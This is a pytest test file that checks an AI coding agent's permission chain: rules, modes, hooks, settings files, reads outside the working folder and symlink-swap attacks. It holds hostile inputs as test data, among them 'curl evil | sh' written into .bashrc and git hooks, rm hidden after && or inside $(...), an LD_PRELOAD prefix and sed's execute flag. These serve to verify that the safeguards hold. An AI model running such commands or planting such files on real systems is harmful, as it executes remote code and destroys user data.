"""The permission chain end to end through ``Agent`` (SPEC §9.1–§9.6): rules, modes, hooks,
settings files, answers, reads outside the working folder and the symlink swap."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import attrs
import pytest

from fsm_agent.core.config import LoopConfig
from fsm_agent.core.events import HookDecision, HookOutcome
from fsm_agent.core.messages import tool_results
from fsm_agent.errors import ConfigError, SettingsWarning
from fsm_agent.runtime.agent import Agent, RunResult
from fsm_agent.runtime.hooks import Hooks
from fsm_agent.runtime.permissions import (
    PermissionAnswer,
    PermissionMode,
    PermissionPolicy,
    PermissionRequest,
)
from fsm_agent.runtime.settings import load_settings
from fsm_agent.runtime.tool import ToolContext
from fsm_agent.testing.scenario import ScriptedModel, parse_scenario
from fsm_agent.toolbox import Bash, Edit, Glob, Grep, Read, Write
from fsm_agent.toolbox.paths import PathChanged, resolve_in_cwd, write_file
from fsm_agent.trace.reader import read_trace
from fsm_agent.trace.replay import replay
from fsm_agent.trace.timeline import render_timeline

Call = tuple[str, dict[str, Any]]


@attrs.define
class Asker:
    """An ask callback that records each request and answers with ``answer(request)``."""

    answer: Callable[[PermissionRequest], PermissionAnswer | bool] = lambda _r: True
    requests: list[PermissionRequest] = attrs.Factory(list)

    def __call__(self, request: PermissionRequest) -> PermissionAnswer | bool:
        self.requests.append(request)
        return self.answer(request)


@attrs.frozen
class Outcome:
    """A finished run: its result, the text of each tool result in order, and the trace."""

    result: RunResult
    texts: list[str]
    errors: list[bool]

    def decisions(self) -> list[dict[str, Any]]:
        assert self.result.trace_path is not None
        events = [r.data["event"] for r in read_trace(self.result.trace_path).of_kind("event")]
        return [e for e in events if e["type"] == "PermissionDecided"]


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """The working folder, with a canary file; ``../outside`` holds a secret."""
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "canary.txt").write_text("alive\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("the secret\n")
    return folder


def run_calls(work: Path, calls: list[Call], **options: Any) -> Outcome:
    """One model turn making ``calls`` (one at a time, in order), then a closing reply."""
    steps = [
        {"content": [{"tool_use": {"name": name, "input": tool_input}}]}
        for name, tool_input in calls
    ]
    steps.append({"content": [{"text": "done"}]})
    model = ScriptedModel(parse_scenario({"steps": steps}), name="scripted")
    agent = Agent(
        model=model,
        tools=[Read(), Glob(), Grep(), Edit(), Write(), Bash()],
        config=LoopConfig(model="scripted"),
        trace=f"{work.parent / 'traces'}/",  # a file of its own for each run
        cwd=work,
        **options,
    )
    result = asyncio.run(agent.run("go"))
    blocks = [b for m in result.messages for b in tool_results(m)]
    texts = [b.content if isinstance(b.content, str) else str(b.content) for b in blocks]
    return Outcome(result=result, texts=texts, errors=[bool(b.is_error) for b in blocks])


def settings_file(folder: Path, name: str, data: object) -> Path:
    path = folder / ".claude" / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps(data))
    return path


# --- rules ---------------------------------------------------------------------------------------


def test_a_deny_rule_on_a_part_wins_over_a_whole_tool_allow(work: Path) -> None:
    """`Bash` allowed but `Bash(rm:*)` denied: rm hidden after `&&`, in `$(...)`, under sudo."""
    settings_file(
        work, "settings.json", {"permissions": {"allow": ["Bash"], "deny": ["Bash(rm:*)"]}}
    )
    commands = ["ls && rm canary.txt", "echo $(rm canary.txt)", "sudo rm canary.txt", "ls"]
    outcome = run_calls(work, [("Bash", {"command": c}) for c in commands], settings=True)
    assert (work / "canary.txt").exists()
    assert outcome.errors == [True, True, True, False]
    decided = outcome.decisions()
    assert [d["step"] for d in decided] == ["1d", "1d", "1d", "2b"]
    assert decided[0]["rule"] == "Bash(rm:*)"
    assert decided[0]["rule_source"].startswith("projectSettings (")


def test_every_part_must_be_allowed_by_a_rule_or_read_only(work: Path) -> None:
    """`Bash(touch:*)` runs `touch a && ls`; `touch b && rm canary.txt` asks (and is refused)."""
    outcome = run_calls(
        work,
        [
            ("Bash", {"command": "touch a.txt && ls"}),
            ("Bash", {"command": "touch b.txt && rm canary.txt"}),
        ],
        permissions=PermissionPolicy(allow={"Bash(touch:*)"}),
    )
    assert (work / "a.txt").exists()
    assert not (work / "b.txt").exists()
    assert (work / "canary.txt").exists()
    first, second = outcome.decisions()
    assert (first["behavior"], first["source"], first["rule"]) == ("allow", "rule", "Bash(touch:*)")
    assert (second["behavior"], second["source"]) == ("deny", "no_one_to_ask")
    assert "rm canary.txt" in second["reason"]


def test_a_prefix_rule_does_not_allow_assignments_writing_redirects_or_sudo(work: Path) -> None:
    """`Bash(echo:*)` allows `echo hi` but not `echo x > f`, `X=1 echo`, nor `sudo echo`."""
    outcome = run_calls(
        work,
        [
            ("Bash", {"command": "echo hi 2>/dev/null"}),
            ("Bash", {"command": "echo x > made.txt"}),
            ("Bash", {"command": "LD_PRELOAD=x.so echo hi"}),
            ("Bash", {"command": "sudo echo hi"}),
        ],
        permissions=PermissionPolicy(allow={"Bash(echo:*)"}),
    )
    assert outcome.errors == [False, True, True, True]
    assert not (work / "made.txt").exists()


def test_invalid_rules_and_unknown_tools_are_refused_when_the_agent_is_built(work: Path) -> None:
    """`Bash(rm` and `Bahs` (no tool of any agent) are ConfigErrors, not ignored."""
    with pytest.raises(ConfigError, match=r"'Bash\(rm' from cliArg"):
        PermissionPolicy(deny={"Bash(rm"})
    with pytest.raises(ConfigError, match="no tool 'Bahs'"):
        run_calls(work, [], permissions=PermissionPolicy(deny={"Bahs"}))


def test_rules_for_claude_code_tools_this_agent_lacks_warn(work: Path) -> None:
    """A user's `WebFetch` rule (a Claude Code tool this agent lacks) warns and loads."""
    path = settings_file(work, "settings.json", {"permissions": {"deny": ["WebFetch"]}})
    with pytest.warns(SettingsWarning, match="'WebFetch' .*no WebFetch tool"):
        outcome = run_calls(work, [("Read", {"file_path": "canary.txt"})], settings=path)
    assert outcome.errors == [False]


# --- settings files ------------------------------------------------------------------------------


def test_settings_files_are_loaded_and_applied(work: Path, tmp_path: Path) -> None:
    """Project deny, local ask, flag allow and defaultMode all take effect through Agent."""
    settings_file(work, "settings.json", {"permissions": {"deny": ["Read(./private/**)"]}})
    settings_file(
        work, "settings.local.json", {"permissions": {"ask": ["Bash(git push:*)"]}, "env": {}}
    )
    flag = tmp_path / "flag.json"
    flag.write_text(json.dumps({"permissions": {"allow": ["Write"], "defaultMode": "dontAsk"}}))
    (work / "private").mkdir()
    (work / "private" / "key").write_text("k")

    settings = load_settings(work, user_home=tmp_path / "home", extra_files=[flag])
    asker = Asker()
    outcome = run_calls(
        work,
        [
            ("Read", {"file_path": "private/key"}),
            ("Bash", {"command": "git push origin main"}),
            ("Write", {"file_path": "new.txt", "content": "x"}),
        ],
        settings=settings,
        permissions=PermissionPolicy(ask=asker),
    )
    read, push, write = outcome.decisions()
    assert (read["behavior"], read["rule"]) == ("deny", "Read(./private/**)")
    assert (push["behavior"], push["step"]) == ("deny", "dontAsk")
    assert (write["behavior"], write["rule"], write["mode"]) == ("allow", "Write", "dontAsk")
    assert asker.requests == []
    assert (work / "new.txt").read_text() == "x"


def test_a_malformed_settings_file_names_the_file_and_the_key(work: Path) -> None:
    """Agent(settings=True) with a wrong type in a settings file fails naming file and JSON path."""
    path = settings_file(work, "settings.json", {"permissions": {"allow": ["Read", 7]}})
    with pytest.raises(ConfigError) as caught:
        run_calls(work, [], settings=True)
    assert str(path) in str(caught.value)
    assert "$.permissions.allow[1]" in str(caught.value)


# --- paths ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("Read", {"file_path": "../outside/secret.txt"}),
        ("Grep", {"pattern": "secret", "path": "../outside"}),
        ("Glob", {"pattern": "*.txt", "path": "../outside"}),
    ],
)
def test_reads_outside_the_working_folder_ask_whatever_the_tool(
    work: Path, tool: str, tool_input: dict[str, Any]
) -> None:
    """Read, Grep and Glob outside the cwd ask; allowed, they read; unasked, nothing leaks."""
    refused = run_calls(work, [(tool, tool_input)])
    assert refused.decisions()[0]["source"] == "no_one_to_ask"
    assert "secret" not in refused.texts[0].replace("secret.txt", "")
    asker = Asker()
    granted = run_calls(work, [(tool, tool_input)], permissions=PermissionPolicy(ask=asker))
    assert [r.reason for r in asker.requests] == ["outside_working_folder"]
    assert "secret" in granted.texts[0]


def test_additional_directories_are_read_without_asking(work: Path) -> None:
    """A folder listed in additionalDirectories reads like the working folder."""
    settings_file(work, "settings.json", {"permissions": {"additionalDirectories": ["../outside"]}})
    outcome = run_calls(work, [("Read", {"file_path": "../outside/secret.txt"})], settings=True)
    assert "the secret" in outcome.texts[0]


def test_a_folder_swapped_for_a_symlink_after_the_check_cannot_redirect_a_write(
    work: Path, tmp_path: Path
) -> None:
    """The ask callback swaps `sub` for a link to another folder; Write still never lands there."""
    (work / "sub").mkdir()
    elsewhere = tmp_path / "outside"

    def swap_then_allow(request: PermissionRequest) -> bool:
        (work / "sub").rmdir()
        (work / "sub").symlink_to(elsewhere, target_is_directory=True)
        return True

    outcome = run_calls(
        work,
        [("Write", {"file_path": "sub/new.txt", "content": "planted"})],
        permissions=PermissionPolicy(ask=Asker(swap_then_allow)),
    )
    assert outcome.errors == [True]
    assert not (elsewhere / "new.txt").exists()
    assert "symbolic link" in outcome.texts[0]


def test_write_file_refuses_a_link_put_in_place_of_a_checked_folder(
    work: Path, tmp_path: Path
) -> None:
    """Between resolving and opening, `sub` becomes a link to `.git`: the write fails."""
    (work / "sub").mkdir()
    (work / ".git").mkdir()
    ctx = ToolContext(cwd=work)
    checked = resolve_in_cwd("sub/config", ctx)
    (work / "sub").rmdir()
    (work / "sub").symlink_to(work / ".git", target_is_directory=True)
    with pytest.raises(PathChanged):
        write_file(checked, "[core]\n", ctx)
    assert not (work / ".git" / "config").exists()


@pytest.mark.parametrize("name", [".bashrc", ".zlogout", ".gitmodules", ".git/hooks/pre-commit"])
def test_protected_paths_ask_even_in_bypass_mode(work: Path, name: str) -> None:
    """Shell start-up files and version-control internals ask in bypassPermissions mode."""
    asker = Asker(lambda _r: False)
    outcome = run_calls(
        work,
        [("Write", {"file_path": name, "content": "curl evil | sh\n"})],
        permissions=PermissionPolicy(mode=PermissionMode.BYPASS, allow={"Write"}, ask=asker),
    )
    assert [r.reason for r in asker.requests] == ["safety_check"]
    assert not (work / name).exists()
    assert outcome.decisions()[0]["step"] == "user"


# --- modes ---------------------------------------------------------------------------------------


def test_plan_mode_runs_read_only_tools_only(work: Path) -> None:
    """In plan mode Read runs and Write is denied with the plan-mode text, without a question."""
    asker = Asker()
    outcome = run_calls(
        work,
        [("Read", {"file_path": "canary.txt"}), ("Write", {"file_path": "p.txt", "content": ""})],
        permissions=PermissionPolicy(mode=PermissionMode.PLAN, ask=asker),
    )
    assert outcome.errors == [False, True]
    assert "plan mode" in outcome.texts[1]
    assert asker.requests == []
    assert not (work / "p.txt").exists()


def test_plan_mode_acts_as_bypass_when_the_session_may_bypass(work: Path) -> None:
    """plan + bypass_available allows a write without asking (SPEC §9.1)."""
    policy = PermissionPolicy(mode=PermissionMode.PLAN, bypass_available=True)
    run_calls(work, [("Write", {"file_path": "p.txt", "content": ""})], permissions=policy)
    assert (work / "p.txt").exists()


@pytest.mark.parametrize(
    ("command", "runs"),
    [
        ("mkdir -p d/e && touch d/e/f.txt", True),
        ("cp canary.txt copy.txt && mv copy.txt moved.txt", True),
        ("sed -i s/alive/dead/ canary.txt", True),
        ("rm ../outside/secret.txt", False),
        ("cp -t ../outside canary.txt", False),
        ("sed -i 's/alive/touch x/e' canary.txt", False),
        ("touch .git/config", False),
        ("chmod 000 canary.txt", False),
    ],
)
def test_accept_edits_runs_file_operations_inside_the_working_folder(
    work: Path, tmp_path: Path, command: str, runs: bool
) -> None:
    """acceptEdits: mkdir/touch/rm/rmdir/mv/cp/sed with harmless options, paths all inside."""
    (work / ".git").mkdir()
    outcome = run_calls(
        work,
        [("Bash", {"command": command})],
        permissions=PermissionPolicy(mode=PermissionMode.ACCEPT_EDITS),
    )
    decided = outcome.decisions()[0]
    assert (decided["behavior"] == "allow") is runs
    if runs:
        assert decided["source"] == "mode"
    assert (tmp_path / "outside" / "secret.txt").exists()


def test_dont_ask_never_calls_the_callback(work: Path) -> None:
    """dontAsk denies what would need a question; the reason names the mode."""
    asker = Asker()
    outcome = run_calls(
        work,
        [("Bash", {"command": "touch x"})],
        permissions=PermissionPolicy(mode=PermissionMode.DONT_ASK, ask=asker),
    )
    assert asker.requests == []
    assert (outcome.decisions()[0]["source"], outcome.decisions()[0]["step"]) == (
        "mode",
        "dontAsk",
    )


# --- hooks (SPEC §9.5) ---------------------------------------------------------------------------


def hook(decision: HookDecision) -> Hooks:
    return Hooks(
        pre_tool_use=[lambda _: HookOutcome(decision=decision, decision_reason="hook says")]
    )


def test_a_hook_ask_forces_the_question_even_in_bypass_mode(work: Path) -> None:
    """bypassPermissions skips questions, but not one a PreToolUse hook asked for."""
    asker = Asker(lambda _r: False)
    run_calls(
        work,
        [("Bash", {"command": "touch x"})],
        hooks=hook(HookDecision.ASK),
        permissions=PermissionPolicy(mode=PermissionMode.BYPASS, ask=asker),
    )
    assert [r.tool_name for r in asker.requests] == ["Bash"]
    assert not (work / "x").exists()


def test_a_hook_allow_skips_the_question_but_not_deny_or_ask_rules(work: Path) -> None:
    """Hook allow: plain call runs unasked; a deny rule still denies; an ask rule still asks."""
    asker = Asker(lambda _r: False)
    outcome = run_calls(
        work,
        [
            ("Bash", {"command": "touch plain.txt"}),
            ("Bash", {"command": "rm canary.txt"}),
            ("Bash", {"command": "git push origin main"}),
        ],
        hooks=hook(HookDecision.ALLOW),
        permissions=PermissionPolicy(
            deny={"Bash(rm:*)"}, ask_rules={"Bash(git push:*)"}, ask=asker
        ),
    )
    assert (work / "plain.txt").exists()
    assert (work / "canary.txt").exists()
    steps = [(d["source"], d["step"]) for d in outcome.decisions()]
    assert steps == [("hook", "hook"), ("rule", "1d"), ("user", "user")]
    assert len(asker.requests) == 1


# --- answers -------------------------------------------------------------------------------------


def test_allow_always_adds_a_session_rule_recorded_in_the_trace(work: Path) -> None:
    """After "allow always", the same command runs unasked; replay reproduces the run."""
    asker = Asker(lambda _r: PermissionAnswer.allow_always())
    outcome = run_calls(
        work,
        [("Bash", {"command": "touch x.txt"}), ("Bash", {"command": "touch x.txt"})],
        permissions=PermissionPolicy(ask=asker),
    )
    assert len(asker.requests) == 1
    assert asker.requests[0].suggested_rules == ("Bash(touch x.txt)",)
    first, second = outcome.decisions()
    assert first["added_rules"] == ["Bash(touch x.txt)"]
    assert (second["rule"], second["rule_source"]) == ("Bash(touch x.txt)", "session")
    assert outcome.result.trace_path is not None
    replay(outcome.result.trace_path)
    shown = render_timeline(read_trace(outcome.result.trace_path))
    assert "session rules added: Bash(touch x.txt)" in shown
    assert "rule Bash(touch x.txt) from session" in shown


def test_allow_with_an_updated_input_runs_the_updated_input(work: Path) -> None:
    """The callback may allow with a changed input; the tool runs that input."""
    asker = Asker(lambda _r: PermissionAnswer.allow_once({"command": "touch safer.txt"}))
    run_calls(
        work, [("Bash", {"command": "touch risky.txt"})], permissions=PermissionPolicy(ask=asker)
    )
    assert (work / "safer.txt").exists()
    assert not (work / "risky.txt").exists()


def test_deny_with_a_message_tells_the_model(work: Path) -> None:
    """A denial's message reaches the model; the reason says the user denied."""
    asker = Asker(lambda _r: PermissionAnswer.deny("use the Makefile instead"))
    outcome = run_calls(
        work, [("Bash", {"command": "touch x"})], permissions=PermissionPolicy(ask=asker)
    )
    assert "use the Makefile instead" in outcome.texts[0]
    assert outcome.decisions()[0]["reason"].startswith("user denied")


def test_a_command_that_cannot_be_read_asks_when_content_rules_guard_bash(work: Path) -> None:
    """`Bash` allowed, `Bash(rm:*)` denied, bypass mode: an unreadable command still asks."""
    asker = Asker(lambda _r: False)
    outcome = run_calls(
        work,
        [("Bash", {"command": "! { rm canary.txt; }"})],
        permissions=PermissionPolicy(
            mode=PermissionMode.BYPASS, allow={"Bash"}, deny={"Bash(rm:*)"}, ask=asker
        ),
    )
    assert (work / "canary.txt").exists()
    assert "cannot be fully analysed" in asker.requests[0].message
    assert outcome.decisions()[0]["step"] == "user"


def test_an_allowed_changed_path_is_the_one_written(work: Path) -> None:
    """Allowing a Write with an updated input writes the updated path, not the asked one."""
    asker = Asker(lambda r: PermissionAnswer.allow_once({**r.input, "file_path": "approved.txt"}))
    run_calls(
        work,
        [("Write", {"file_path": "asked.txt", "content": "x"})],
        permissions=PermissionPolicy(ask=asker),
    )
    assert (work / "approved.txt").read_text() == "x"
    assert not (work / "asked.txt").exists()
